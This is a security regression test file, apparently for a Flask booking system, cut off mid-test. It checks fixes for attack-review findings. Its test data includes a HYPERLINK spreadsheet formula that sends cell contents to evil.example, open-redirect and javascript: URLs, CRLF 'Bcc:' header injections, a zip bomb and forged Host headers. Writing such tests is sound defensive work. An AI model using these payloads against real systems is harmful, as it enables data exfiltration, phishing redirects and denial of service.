"""What an attack review found (issue: hardening), each reproduced from outside through HTTP where it can be."""
import json
from datetime import timedelta

import pytest

from booking import clock
from booking.auth import services as auth
from models import db
from tests.conftest import PASSWORD

TOKEN = "/api/v1/auth/token"


def _token(api, username, password, address=None):
    headers = {"X-Forwarded-For": address} if address else {}
    return api.client.post(TOKEN, json={"username": username, "password": password}, headers=headers)


def test_failures_against_made_up_names_never_lock_anyone_out(world, api):
    # Reproduced: 20 wrong passwords for made-up names from one address locked every login from it.
    for n in range(25):
        assert _token(api, f"nobody{n}", "wrong-password").status_code == 401
    assert _token(api, "admin", PASSWORD).status_code == 200
    assert _token(api, "secretary", PASSWORD).status_code == 200


def test_failures_from_elsewhere_never_stop_a_correct_password(world):
    from booking import create_app
    client = create_app({**world.config, "PROXY_COUNT": 1}).test_client()  # behind the documented nginx

    def attempt(password, address):
        return client.post(TOKEN, json={"username": "admin", "password": password},
                           headers={"X-Forwarded-For": address})

    # Reproduced: 5 failures every 15 minutes kept `admin` locked for good, from anywhere.
    for _ in range(8):
        attempt("wrong-password", "203.0.113.7")
    assert attempt("wrong-password", "203.0.113.7").status_code == 429
    assert attempt(PASSWORD, "203.0.113.7").status_code == 429  # the guesser's own place waits
    assert attempt(PASSWORD, "198.51.100.2").status_code == 200  # the real admin, elsewhere, logs in


def test_without_a_proxy_setting_forwarded_headers_are_not_believed(world, api):
    for n in range(6):
        _token(api, "admin", "wrong-password", address=f"192.0.2.{n}")
    # All six came from the test client's own address: the header did not spread them out.
    assert _token(api, "admin", PASSWORD, address="192.0.2.99").status_code == 429


def test_the_delay_grows_with_each_failure_and_then_passes(world):
    limit = world.config["LOGIN_MAX_FAILURES"]
    base = world.config["LOGIN_BASE_DELAY_SECONDS"]
    assert auth.login_delay(limit - 1) == timedelta(0)
    assert auth.login_delay(limit) == timedelta(seconds=base)
    assert auth.login_delay(limit + 2) == timedelta(seconds=base * 4)
    assert auth.login_delay(limit + 50) == timedelta(minutes=world.config["LOGIN_WINDOW_MINUTES"])
    now = clock.now()
    for _ in range(limit):
        try:
            auth.authenticate("secretary", "bad", "10.0.0.9", now=now)
        except auth.Unauthenticated:
            pass
    try:
        auth.authenticate("secretary", PASSWORD, "10.0.0.9", now=now + timedelta(seconds=base - 1))
    except auth.RateLimited as err:
        assert "秒后再试" in err.message
    else:
        raise AssertionError("a correct password within the delay should wait")
    later = now + timedelta(seconds=base + 1)
    assert auth.authenticate("secretary", PASSWORD, "10.0.0.9", now=later).username == "secretary"


def test_an_unknown_username_costs_the_same_password_check(world, monkeypatch):
    # Reproduced: 12 ms for an unknown name against 228 ms for a known one told which names exist.
    checked = []
    real = auth.check_password_hash
    monkeypatch.setattr(auth, "check_password_hash", lambda h, p: checked.append(h) or real(h, p))
    import models.user
    monkeypatch.setattr(models.user, "check_password_hash", lambda h, p: checked.append(h) or real(h, p))
    for name in ("nobody-here", "secretary"):
        checked.clear()
        try:
            auth.authenticate(name, "wrong-password", "10.0.0.5")
        except auth.Unauthenticated:
            pass
        assert len(checked) == 1, name
        method = checked[0].split("$")[0]
        assert method == world.config["PASSWORD_HASH_METHOD"], (name, method)


# -- exports: text that looks like a formula stays text ------------------------------------------------------

def test_exports_never_write_a_formula(world, client):
    import csv as _csv
    import io

    from openpyxl import load_workbook

    from booking.documents import exports
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    rows = [[evil, 1, 2, ""], ["+1+1", 3, 4, ""], ["-2", 5, 6, ""], ["@SUM(A1)", 7, 8, ""], ["合计", 16, 20, ""]]
    text = exports.csv_bytes(["基地", "批次", "人次", "满意度"], rows).decode("utf-8-sig")
    cells = [r[0] for r in _csv.reader(io.StringIO(text))][1:]
    assert all(c.startswith("'") for c in cells[:4]) and cells[4] == "合计"
    ws = load_workbook(io.BytesIO(exports.xlsx_bytes("=标题", "统计", ["基地"], rows))).active
    values = [(c.value, c.data_type) for c in ws["A"]]
    assert ("=标题", "s") in values and (evil, "s") in values and ("@SUM(A1)", "s") in values
    assert all(kind != "f" for _, kind in values)


def test_the_district_export_of_a_base_named_like_a_formula(world, client):
    # Reproduced: a manager named their base =HYPERLINK(...); the district's XLSX held a live formula.
    from booking.manage import services as manage
    from models import Base, db
    from tests.factories import completed, user
    base = db.session.get(Base, 1)
    evil = '=HYPERLINK("http://evil.example","点击")'
    manage.update_base(user("manager"), base, name=evil, type=base.type, address=base.address,
                       description=base.description, contact_name=base.contact_name,
                       contact_phone=base.contact_phone, min_advance_days=1, max_advance_days=60,
                       cancel_deadline_hours=24, requires_approval=True)
    completed()
    from tests.conftest import login
    login(client, "admin")
    import io

    from openpyxl import load_workbook
    r = client.get("/stats/export.xlsx?group_by=base")
    assert r.status_code == 200
    cells = [c for row in load_workbook(io.BytesIO(r.data)).active.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    import csv as _csv
    text = client.get("/stats/export.csv?group_by=base").data.decode("utf-8-sig")
    assert f"'{evil}" in [row[0] for row in _csv.reader(io.StringIO(text))]


def test_names_refuse_control_characters(world, client):
    from tests.conftest import login
    login(client, "admin")
    r = client.post("/admin/organizations/new", data={"name": "区委\n组织部", "sector": "government"})
    assert r.status_code == 200 and "控制字符" in r.get_data(as_text=True)
    login(client, "admin")
    r = client.post("/admin/bases", data={"name": "新基地\r\nBcc: x@example.org", "type": "red", "address": "",
                                          "description": ""})
    assert r.status_code == 422 and "控制字符" in r.get_data(as_text=True)


# -- web sessions can be ended -------------------------------------------------------------------------------

def _copy_cookie(source, target):
    cookie = source.get_cookie("session")
    target.set_cookie("session", cookie.value)


def test_a_copied_session_cookie_dies_with_logout(world):
    from tests.conftest import login
    victim, thief = world.test_client(), world.test_client()
    assert login(victim, "secretary").status_code == 302
    _copy_cookie(victim, thief)
    from flask import g
    g.pop("_login_user", None)
    assert thief.get("/bookings").status_code == 200  # the copy works while the session lives …
    victim.post("/logout")
    g.pop("_login_user", None)
    assert thief.get("/bookings").status_code == 302  # … and not after the logout


def test_password_reset_and_deactivation_end_sessions(world):
    from flask import g

    from booking.auth import services as accounts
    from tests.conftest import login
    from tests.factories import user
    for name, end in (("secretary2", lambda u: accounts.reset_password(user("admin"), u, "another-pass-2026")),
                      ("manager2", lambda u: accounts.set_active(user("admin"), u, False))):
        client = world.test_client()
        assert login(client, name).status_code == 302
        g.pop("_login_user", None)
        assert client.get("/bookings").status_code == 200
        end(user(name))
        g.pop("_login_user", None)
        assert client.get("/bookings").status_code == 302
        accounts.set_active(user("admin"), user(name), True)


def test_a_session_ends_after_its_lifetime_and_login_starts_a_new_one(world, monkeypatch):
    from flask import g

    from tests.conftest import login
    client = world.test_client()
    with client.session_transaction() as s:
        s["left_over"] = "from before the login"
    assert login(client, "manager").status_code == 302
    with client.session_transaction() as s:
        assert "left_over" not in s and isinstance(s["login_at"], int)
    later = clock.now() + timedelta(hours=world.config["SESSION_MAX_HOURS"], minutes=1)
    monkeypatch.setattr(clock, "now", lambda: later)
    g.pop("_login_user", None)
    assert client.get("/manage/today").status_code == 302


# -- headers -----------------------------------------------------------------------------------------------

def test_security_headers_on_pages_and_api(world, client, api):
    from tests.conftest import login
    login(client, "manager")
    for r in (client.get("/manage/today"), client.get("/login"), api.get("/api/v1/me", as_="manager"),
              client.get("/static/" + world.extensions["assets"]["js/app.js"])):
        h = r.headers
        assert "frame-ancestors 'none'" in h["Content-Security-Policy"] and "script-src 'self'" in h["Content-Security-Policy"]
        assert h["X-Frame-Options"] == "DENY" and h["X-Content-Type-Options"] == "nosniff"
        assert h["Referrer-Policy"] == "same-origin"
        assert "Strict-Transport-Security" not in h  # plain HTTP in tests


def test_hsts_and_secure_cookie_when_served_over_https(world):
    from booking import create_app
    from tests.conftest import PASSWORD as pw
    app = create_app({**world.config, "HTTPS": True, "SESSION_COOKIE_SECURE": True, "PROXY_COUNT": 1})
    client = app.test_client()
    r = client.post("/login", data={"username": "admin", "password": pw}, headers={"X-Forwarded-Proto": "https"})
    assert "Secure" in r.headers["Set-Cookie"] and "HttpOnly" in r.headers["Set-Cookie"]
    assert r.headers["Strict-Transport-Security"].startswith("max-age=")


def test_no_inline_scripts_or_styles_in_templates():
    import re
    from pathlib import Path
    root = Path(__file__).resolve().parent.parent / "templates"
    found = []
    for path in root.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        found += [f"{path.name}: {m}" for m in re.findall(r'\son[a-z]+="[^"]*"|\sstyle="[^"]*"', text)]
        found += [f"{path.name}: inline script" for m in re.findall(r"<script(?![^>]*\b(src|type=\"application/json\"))[^>]*>", text)]
    assert found == []


# -- crafted input never answers 500 ----------------------------------------------------------------------

def test_absurd_page_numbers_on_every_list_page(world, client):
    from tests.conftest import login
    pages = {"admin": ["/admin/users", "/admin/organizations", "/admin/lecturers", "/admin/audit", "/bookings",
                       "/notifications", "/"],
             "manager": ["/manage/pending", "/bookings"]}
    for name, paths in pages.items():
        client.post("/logout")
        login(client, name)
        for path in paths:
            r = client.get(f"{path}?page=99999999999999999999")
            assert r.status_code in (200, 302), (path, r.status_code)
            r = client.get(f"{path}?page=-5")
            assert r.status_code in (200, 302), (path, r.status_code)


def test_closures_at_the_ends_of_the_calendar(world, client):
    from tests.conftest import login
    login(client, "manager")
    for start, end in (("0001-01-01", "0001-01-02"), ("9999-12-30", "9999-12-31"), ("2026-12-01", "9999-12-31")):
        r = client.post("/manage/bases/1/closures", data={"venue_id": 0, "start_date": start, "end_date": end,
                                                          "reason": "测试"})
        assert r.status_code == 422 and "年之间的日期" in r.get_data(as_text=True), (start, end)


def test_deeply_nested_json_even_unauthenticated(world, api):
    body = b"[" * 100000 + b"]" * 100000
    for path in ("/api/v1/auth/token", "/api/v1/bookings"):
        r = api.client.post(path, data=body, content_type="application/json")
        assert r.status_code in (400, 401, 413) and r.get_json()["error"]["code"] in (
            "bad_request", "unauthenticated", "payload_too_large"), path
    nested = b'{"a":' * 20000 + b"1" + b"}" * 20000  # under the body limit
    assert len(nested) < world.config["API_MAX_BODY"] * 4
    r = api.client.post("/api/v1/auth/token", data=nested[:60000] if len(nested) > 60000 else nested,
                        content_type="application/json")
    assert r.status_code in (400, 413) and r.is_json


def test_a_chunked_body_over_the_limit_is_413_not_parsed(world):
    # Reproduced: a 6 MB chunked body to the API was read and parsed whole.
    from tests.server import gunicorn
    import json as _json
    import socket
    with gunicorn(world.config["SQLALCHEMY_DATABASE_URI"], workers=1) as url:
        host, port = url.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=30) as sock:
            sock.sendall(b"POST /api/v1/auth/token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                         b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
            piece = b"a" * 60000
            try:
                for _ in range(100):  # 6 MB, as reproduced
                    sock.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
                sock.sendall(b"0\r\n\r\n")
            except OSError:  # the server answered and closed while the body was still coming: as it should
                pass
            answer = b""
            while chunk := sock.recv(65536):
                answer += chunk
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 413"), head[:200]
        assert b"payload_too_large" in body
        # An over-long URL is answered by the app, in the contract's JSON (gunicorn's own 414 is HTML).
        import http.client
        conn = http.client.HTTPConnection(host, int(port), timeout=30)
        conn.request("GET", "/api/v1/bases?q=" + "x" * 10000)
        r = conn.getresponse()
        assert r.status == 414 and _json.loads(r.read())["error"]["code"] == "uri_too_long"


def test_imports_with_a_huge_cell_a_nul_or_too_many_rows(world, client):
    import io

    from tests.conftest import login
    login(client, "admin")

    def upload(data: bytes, name="b.csv"):
        return client.post("/admin/branches/import", data={"file": (io.BytesIO(data), name)},
                           content_type="multipart/form-data", follow_redirects=True)

    header = "党组织,所属领域,支部名称\n".encode()
    r = upload(header + b'"' + b"x" * 200000 + '",机关,一支部\n'.encode())
    assert r.status_code == 200 and "无法读取" in r.get_data(as_text=True)
    r = upload(header + "区委,机关,一\x00支部\n".encode())
    assert r.status_code == 200 and "空字符" in r.get_data(as_text=True)
    r = upload(header + "".join(f"区委,机关,第{i}支部\n" for i in range(6000)).encode())
    assert "最多 5000 行" in r.get_data(as_text=True)
    r = upload(b"x" * (3 * 1024 * 1024))
    assert "不能超过 2 MB" in r.get_data(as_text=True)


def test_an_xlsx_that_unpacks_to_a_flood_is_refused_before_parsing(world, client):
    import io
    import zipfile

    from tests.conftest import login
    login(client, "admin")
    # 429 KB of zip, a million rows inside: reproduced as keeping a worker busy until gunicorn killed it.
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", "<row><c><v>1</v></c></row>" * 1_000_000)
    r = client.post("/admin/branches/import", data={"file": (io.BytesIO(data.getvalue()), "b.xlsx")},
                    content_type="multipart/form-data", follow_redirects=True)
    assert len(data.getvalue()) < 1024 * 1024 and "内容过大" in r.get_data(as_text=True)


def test_a_nul_in_a_photo_file_name_is_400(world, client):
    import io

    from tests.conftest import login
    from tests.factories import completed
    b = completed()
    login(client, "secretary")
    r = client.post(f"/bookings/{b.id}/record", data={"summary": "纪实", "photos": (io.BytesIO(b"GIF89a...."), "a\x00.gif")},
                    content_type="multipart/form-data")
    assert r.status_code == 400


def test_a_failed_request_on_postgresql_still_gets_the_chinese_error_page(world, client, monkeypatch):
    # Reproduced on PostgreSQL: the error page read the failed session and crashed into gunicorn's bare 500.
    from sqlalchemy import text

    from models import db
    from tests.conftest import login
    login(client, "secretary")
    import booking.reservations.routes as routes

    def broken(*a, **k):
        db.session.execute(text("SELECT * FROM no_such_table"))

    monkeypatch.setattr(routes.services, "visible_query", broken)
    world.config["PROPAGATE_EXCEPTIONS"] = False
    r = client.get("/bookings")
    assert r.status_code == 500 and "服务器出了点问题" in r.get_data(as_text=True)


def test_login_next_never_leaves_the_site(world, client):
    from tests.conftest import PASSWORD as pw
    # Browsers drop tabs and line breaks from a URL: "/%09/evil.example" is read as "//evil.example" (reproduced).
    for target in ("//evil.example/", "/\\evil.example/", "https://evil.example/", "/%09/evil.example",
                   "/%0a/evil.example", "/%0d%0a/evil.example", "/%20/evil.example", "%09//evil.example",
                   "/\\%09evil.example", "javascript:alert(1)"):
        r = client.post(f"/login?next={target}", data={"username": "admin", "password": pw})
        assert r.status_code == 302 and "evil" not in r.headers["Location"], target
        assert "alert" not in r.headers["Location"], target
        client.post("/logout")
    r = client.post("/login?next=/bookings%3Fstatus%3Dpending", data={"username": "admin", "password": pw})
    assert r.headers["Location"].endswith("/bookings?status=pending")  # a path of this site is kept


def test_mail_that_cannot_be_sent_never_fails_the_request(world, client):
    # Reproduced: a line break in a base name, with mail configured, answered 500 after the change was saved and
    # lost that mail. Now the mail waits in the outbox; a failed attempt is kept and tried again later.
    from booking.notify.services import send_pending_mail
    from models import Notification, db
    from tests.factories import booking
    world.config.update(MAIL_HOST="127.0.0.1", MAIL_PORT=1)  # nothing listens there
    b = booking()  # its approval tells the secretary, by email too
    row = db.session.query(Notification).filter(Notification.booking_id == b.id,
                                                Notification.email_to.is_not(None)).first()
    assert row is not None and row.emailed_at is None
    row.title = "标题\r\nBcc: x@example.org"
    db.session.commit()
    sent, failed = send_pending_mail()
    assert sent == 0 and failed >= 1
    db.session.expire_all()
    row = db.session.get(Notification, row.id)
    assert row.emailed_at is None and row.email_attempts == 1 and row.email_error
    assert row.email_next_at > clock.now()  # retried later, with a growing delay


def test_seed_demo_refuses_a_database_in_real_use(world):
    from booking.auth.services import create_user
    runner = world.test_cli_runner()
    assert runner.invoke(args=["seed-demo"]).exit_code == 0
    create_user(None, username="wangfang", password="real-pass-2026", role="admin")
    r = runner.invoke(args=["seed-demo"])
    assert r.exit_code == 1 and "非演示账号" in r.output
    assert runner.invoke(args=["seed-demo", "--force"]).exit_code == 0


def test_uploaded_photos_are_not_world_readable(world):
    import os
    import stat

    from booking.visits import services as visits
    from tests.factories import completed, image_bytes, user
    from booking.photos import storage as photo_store
    world.config["PHOTO_STORAGE"] = "filesystem"  # files are what can be world-readable
    b = completed()
    visits.save_activity_record(user("secretary"), b, "纪实", [("a.gif", image_bytes("GIF"))])
    path = os.path.join(photo_store.folder(), b.photos[0].stored_name)
    assert stat.S_IMODE(os.stat(path).st_mode) & 0o007 == 0


# -- outages answer 503, retryable -------------------------------------------------------------------------

def test_a_database_outage_is_503_with_a_retryable_code(world, api, client, monkeypatch):
    # Reproduced: a PostgreSQL restart answered 79 of 2,644 requests with 500 internal_error.
    from sqlalchemy.exc import OperationalError

    import booking.catalog.services as catalog
    from tests.conftest import login

    def gone(*a, **k):
        raise OperationalError("SELECT 1", {}, Exception("server closed the connection unexpectedly"))

    monkeypatch.setattr(catalog, "bases_query", gone)
    token = api.token("secretary")
    world.config["PROPAGATE_EXCEPTIONS"] = False
    r = api.client.get("/api/v1/bases", headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 503 and r.get_json()["error"]["code"] == "service_unavailable"
    assert r.headers["Retry-After"] == "5" and "稍后重试" in r.get_json()["error"]["message"]
    login(client, "secretary")
    page = client.get("/bases")
    assert page.status_code == 503 and "稍后重试" in page.get_data(as_text=True)


def test_healthz_reports_a_database_that_cannot_be_written(world, client, monkeypatch):
    # Reproduced: /healthz said ok while the disk was full.
    import shutil
    from collections import namedtuple
    assert client.get("/healthz").get_json() == {"status": "ok"}
    if world.config["SQLALCHEMY_DATABASE_URI"].startswith("sqlite"):
        usage = namedtuple("usage", "total used free")
        monkeypatch.setattr(shutil, "disk_usage", lambda path: usage(10**9, 10**9 - 1024, 1024))
        r = client.get("/healthz")
        assert r.status_code == 503 and r.get_json() == {"status": "error", "detail": "disk nearly full"}
    else:
        from models import db
        from sqlalchemy import text
        name = db.engine.url.database
        db.session.execute(text(f"ALTER DATABASE {name} SET default_transaction_read_only = on"))
        db.session.commit()
        try:
            db.engine.dispose()
            r = client.get("/healthz")
            assert r.status_code == 503 and r.get_json()["detail"] == "database is read-only"
        finally:
            db.session.rollback()
            db.session.execute(text("SET transaction_read_only = off"))
            db.session.execute(text(f"ALTER DATABASE {name} SET default_transaction_read_only = off"))
            db.session.commit()
            db.engine.dispose()


def test_mail_goes_through_an_outbox_at_least_once_and_never_delays_a_request(world, monkeypatch):
    # Reproduced: a process killed between commit and send lost the email for good; a slow mail server made every
    # request wait for SMTP.
    import socket

    from aiosmtpd.controller import Controller
    from aiosmtpd.handlers import Message

    from booking.notify import services as notify
    from models import Notification, db
    from tests.factories import booking

    received = []

    class Collect(Message):
        def handle_message(self, message):
            received.append(message)

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    world.config.update(MAIL_HOST="127.0.0.1", MAIL_PORT=port, MAIL_FROM="booking@example.org")
    connections = []
    real_smtp = notify._smtp
    monkeypatch.setattr(notify, "_smtp", lambda: connections.append(1) or real_smtp())

    b = booking()  # created and approved: the managers and the secretary are told
    assert connections == []  # the request never spoke to a mail server
    due = db.session.query(Notification).filter(Notification.email_to.is_not(None)).count()
    assert due >= 2

    # The server is down: every attempt fails, is kept, and is tried again later.
    sent, failed = notify.send_pending_mail()
    assert (sent, failed) == (0, due)
    assert notify.send_pending_mail() == (0, 0)  # not due again yet

    controller = Controller(Collect(), hostname="127.0.0.1", port=port)
    controller.start()
    try:
        later = clock.now() + timedelta(minutes=2)
        assert notify.send_pending_mail(later) == (due, 0)
        assert notify.send_pending_mail(later) == (0, 0)  # each marked sent once
        # A process killed after sending, before marking: the claim runs out and the email goes again, with
        # the same Message-ID, so the repeat is recognisable.
        row = db.session.query(Notification).filter(Notification.booking_id == b.id,
                                                    Notification.email_to.is_not(None)).first()
        row.emailed_at, row.email_next_at = None, later
        db.session.commit()
        assert notify.send_pending_mail(later + timedelta(minutes=11)) == (1, 0)
    finally:
        controller.stop()
    ids = [m["Message-ID"] for m in received]
    assert len(ids) == due + 1 and len(set(ids)) == due
    assert f"<notification-{row.id}@example.org>" in ids
    assert notify.retry_delay(1) == timedelta(minutes=1) and notify.retry_delay(30) == timedelta(hours=6)


def test_the_calendar_feed_holds_no_secret_in_the_database_and_ends_with_the_account(world, api, client):
    # Reproduced: the feed kept working after the lecturer's account was deactivated, and its secret was stored
    # as it appears in the URL.
    from booking.auth import services as accounts
    from tests.factories import user
    url = api.get("/api/v1/me", as_="lecturer").get_json()["calendar_url"]
    path = url.replace("http://localhost", "")
    key = user("lecturer").lecturer.calendar_token
    assert key and key not in url
    assert client.get(path).status_code == 200
    tampered = path[:-8] + ("0" if path[-8] != "0" else "1") + path[-7:]
    assert client.get(tampered).status_code == 404
    accounts.set_active(user("admin"), user("lecturer"), False)
    assert client.get(path).status_code == 404
    accounts.set_active(user("admin"), user("lecturer"), True)
    assert client.get(path).status_code == 200


def test_the_sqlite_file_is_not_world_readable(tmp_path):
    # Reproduced: the SQLite file (and the uploads) were 0644. Run on an SQLite file of its own in every suite.
    import os

    from sqlalchemy import text

    from booking import create_app
    from models import db
    path = tmp_path / "private.db"
    path.touch(mode=0o644)
    os.chmod(path, 0o644)
    app = create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}", "TESTING": True})
    with app.app_context():
        db.session.execute(text("SELECT 1"))
        db.session.remove()
        db.engine.dispose()
    assert os.stat(path).st_mode & 0o007 == 0


def test_saving_a_user_with_an_email_address(world, client):
    # Reproduced: the form's Email() validator needed email_validator, which requirements.txt lacked: 500.
    from tests.conftest import login
    login(client, "admin")
    r = client.post("/admin/users/new", data={"username": "wangfang", "password": "real-pass-2026", "role": "admin",
                                              "display_name": "王芳", "email": "wangfang@example.gov.cn", "phone": "",
                                              "branch_id": 0, "lecturer_id": 0})
    assert r.status_code == 302, r.get_data(as_text=True)[:500]
    r = client.post("/admin/users/new", data={"username": "lifang", "password": "real-pass-2026", "role": "admin",
                                              "display_name": "李芳", "email": "not-an-address", "phone": "",
                                              "branch_id": 0, "lecturer_id": 0})
    assert r.status_code == 200 and "请输入有效的邮箱地址" in r.get_data(as_text=True)


def test_a_rested_connection_that_was_cut_is_replaced_before_use(world, monkeypatch):
    """Connections are pinged when they come out of the pool after a rest (booking.database.ping), not on every request:
    one cut while it rested (a server restart, a proxy's idle timeout) is replaced, and the request does not fail."""
    from sqlalchemy import text

    from booking.database import ping as dbping
    from models import db
    engine = db.engine
    if engine.dialect.name == "sqlite":  # installed for PostgreSQL by the app; the same listeners here
        dbping.install(engine)
    monkeypatch.setattr(dbping, "IDLE_SECONDS", 0)
    db.session.remove()
    held = engine.raw_connection()
    cut = held.dbapi_connection
    held.close()          # back in the pool, resting
    cut.close()           # and cut underneath
    with engine.connect() as conn:
        assert conn.execute(text("SELECT 1")).scalar() == 1
        assert conn.connection.dbapi_connection is not cut
    assert world.test_client().get("/healthz").get_json() == {"status": "ok"}


def test_links_never_come_from_the_host_header(world):
    """Reproduced: `/api/v1/me` with `Host: evil.example` answered a calendar_url there. Served by gunicorn with
    PUBLIC_URL set: a foreign Host gets 400, and the calendar link is PUBLIC_URL's whatever X-Forwarded-Host says."""
    import http.client
    from tests.server import gunicorn as serve
    uri = world.config["SQLALCHEMY_DATABASE_URI"]
    db.session.remove()
    db.engine.dispose()
    with serve(uri, workers=1, settings={"PUBLIC_URL": "https://dangjian.example.gov.cn", "PROXY_COUNT": "1"}) as url:
        port = int(url.rsplit(":", 1)[1])

        def ask(method, path, host, body=None, headers=None):
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
            conn.request(method, path, body=body, headers={"Host": host, **(headers or {})})
            r = conn.getresponse()
            return r.status, r.read().decode(errors="replace")

        assert ask("GET", "/healthz", "evil.example")[0] == 400
        assert ask("GET", "/login", "evil.example:80")[0] == 400
        assert ask("GET", "/forgot", "evil.example")[0] == 400
        assert ask("GET", "/healthz", "dangjian.example.gov.cn")[0] == 200
        status, body = ask("POST", "/api/v1/auth/token", "127.0.0.1",
                           body=json.dumps({"username": "lecturer", "password": "demo-pass-2026"}),
                           headers={"Content-Type": "application/json"})
        assert status == 200, body
        status, me = ask("GET", "/api/v1/me", "127.0.0.1", headers={
            "Authorization": f"Bearer {json.loads(body)['token']}", "X-Forwarded-Host": "evil.example"})
        assert json.loads(me)["calendar_url"].startswith("https://dangjian.example.gov.cn/calendar/"), me


def test_the_reset_mail_links_to_the_public_url_whatever_host_asked(world, client):
    """Reproduced: a reset of admin asked with `Host: evil.example` mailed the genuine token to evil.example."""
    import re
    from booking.jobs.services import run_job
    from tests.mail import smtp_server
    world.config["PUBLIC_URL"] = "https://dangjian.example.gov.cn"
    world.config["TRUSTED_HOSTS"] = None  # even were the Host let through, the link would not follow it
    with smtp_server(world) as received:
        client.post("/forgot", data={"identifier": "secretary"}, headers={"Host": "evil.example",
                                                                         "X-Forwarded-Host": "evil.example"})
        assert run_job("send-mail")[0]
        received.wait_for(1)
    body = received[0].get_payload(decode=True).decode()
    assert "evil" not in body
    assert re.search(r"https://dangjian\.example\.gov\.cn/reset/\S+", body), body


def test_public_url_is_required_in_production(monkeypatch):
    from booking import config
    monkeypatch.delenv("PUBLIC_URL", raising=False)
    monkeypatch.setenv("HTTPS", "1")
    with pytest.raises(RuntimeError, match="PUBLIC_URL must be set in production"):
        config.load("/tmp")
    monkeypatch.setenv("PUBLIC_URL", "dangjian.example.gov.cn")
    with pytest.raises(RuntimeError, match="http"):
        config.load("/tmp")
    monkeypatch.setenv("PUBLIC_URL", "https://dangjian.example.gov.cn/")
    loaded = config.load("/tmp")
    assert loaded["PUBLIC_URL"] == "https://dangjian.example.gov.cn"
    assert loaded["TRUSTED_HOSTS"] == ["dangjian.example.gov.cn", "localhost", "127.0.0.1", "::1"]


def test_answers_with_personal_data_are_never_stored(world, api, client):
    """Reproduced: authenticated pages, API answers, the token answer and downloads carried no Cache-Control; a
    shared proxy or the back button could show them to the next person at a shared PC."""
    r = api.client.post("/api/v1/auth/token", json={"username": "admin", "password": PASSWORD})
    assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store"
    for path in ("/api/v1/me", "/api/v1/bookings", "/api/v1/stats?group_by=base"):
        assert api.get(path, as_="admin").headers["Cache-Control"] == "no-store", path
    from tests.conftest import login
    login(client, "admin")
    for path in ("/bookings", "/stats/export.xlsx?group_by=base", "/admin/audit"):
        r = client.get(path)
        assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store", (path, r.status_code)
    static = client.get("/static/" + world.extensions["assets"]["css/app.css"])
    assert static.status_code == 200 and static.headers["Cache-Control"] == "max-age=31536000, public, immutable"


# -- third round (issue: hardening, third round) ----------------------------------------------------------------

def test_reactivating_an_account_never_revives_its_old_tokens(world, api, client):
    # Reproduced: deactivate lecturer2, their token answered 401; reactivate, the same token worked again.
    from models import User
    token = _token(api, "lecturer2", PASSWORD).get_json()["token"]
    headers = {"Authorization": f"Bearer {token}"}
    assert client.get("/api/v1/bookings", headers=headers).status_code == 200
    lecturer2 = db.session.scalar(db.select(User).where(User.username == "lecturer2"))
    from tests.conftest import login
    login(client, "admin")
    assert client.post(f"/admin/users/{lecturer2.id}/active").status_code == 302  # deactivated
    assert client.get("/api/v1/bookings", headers=headers).status_code == 401
    assert client.post(f"/admin/users/{lecturer2.id}/active").status_code == 302  # active again
    db.session.refresh(lecturer2)
    assert lecturer2.active
    assert client.get("/api/v1/bookings", headers=headers).status_code == 401
    fresh = _token(api, "lecturer2", PASSWORD).get_json()["token"]  # a new login works as before
    assert client.get("/api/v1/bookings", headers={"Authorization": f"Bearer {fresh}"}).status_code == 200


def test_a_deactivated_account_costs_the_same_password_check(world, monkeypatch):
    # Reproduced: a wrong password took ~4 ms for a deactivated account, 140-190 ms for active or unknown names.
    from models import User
    checked = []
    real = auth.check_password_hash
    monkeypatch.setattr(auth, "check_password_hash", lambda h, p: checked.append(h) or real(h, p))
    import models.user
    monkeypatch.setattr(models.user, "check_password_hash", lambda h, p: checked.append(h) or real(h, p))
    db.session.scalar(db.select(User).where(User.username == "lecturer2")).active = False
    db.session.commit()
    for password in ("wrong-password", PASSWORD):
        checked.clear()
        with pytest.raises(auth.Unauthenticated):
            auth.authenticate("lecturer2", password, "10.0.0.6")
        assert len(checked) == 1 and checked[0].split("$")[0] == world.config["PASSWORD_HASH_METHOD"]


def test_reset_mails_are_counted_per_account_whichever_name_is_typed(world, client, monkeypatch):
    # Reproduced: username and email each had 3 an hour, so one account got 6 reset mails an hour.
    from models import Notification, User
    monkeypatch.setattr(auth, "RESET_ANSWER_SECONDS", 0)
    world.config["MAIL_HOST"] = "127.0.0.1"  # the outbox holds the mails; nothing is sent here
    secretary = db.session.scalar(db.select(User).where(User.username == "secretary"))
    for typed in ("secretary", secretary.email, "secretary", secretary.email, "secretary", secretary.email):
        client.post("/forgot", data={"identifier": typed}, headers={"X-Forwarded-For": typed})
    mails = db.session.scalars(db.select(Notification).where(Notification.user_id == secretary.id,
                                                              Notification.kind == "password_reset")).all()
    assert len(mails) == auth.RESETS_PER_ACCOUNT == 3


def test_the_mail_retry_schedule_runs_to_its_end_without_an_error(world, monkeypatch):
    # Reproduced: retry_delay() built timedelta(minutes=2**41) at attempt 42 before capping it; OverflowError
    # escaped send_pending_mail, every later run failed, and the mail was given up at day 11.6.
    import socket
    from booking.notify import services as notify
    from models import Notification, User
    with socket.socket() as s:  # a port nobody listens on: every attempt fails at once
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    world.config.update(MAIL_HOST="127.0.0.1", MAIL_PORT=port)
    secretary = db.session.scalar(db.select(User).where(User.username == "secretary"))
    notify.notify([secretary], "test", None, "测试邮件", "正文")
    db.session.commit()
    row = db.session.scalar(db.select(Notification).where(Notification.email_to.is_not(None)))
    first = now = row.email_next_at
    runs = 0
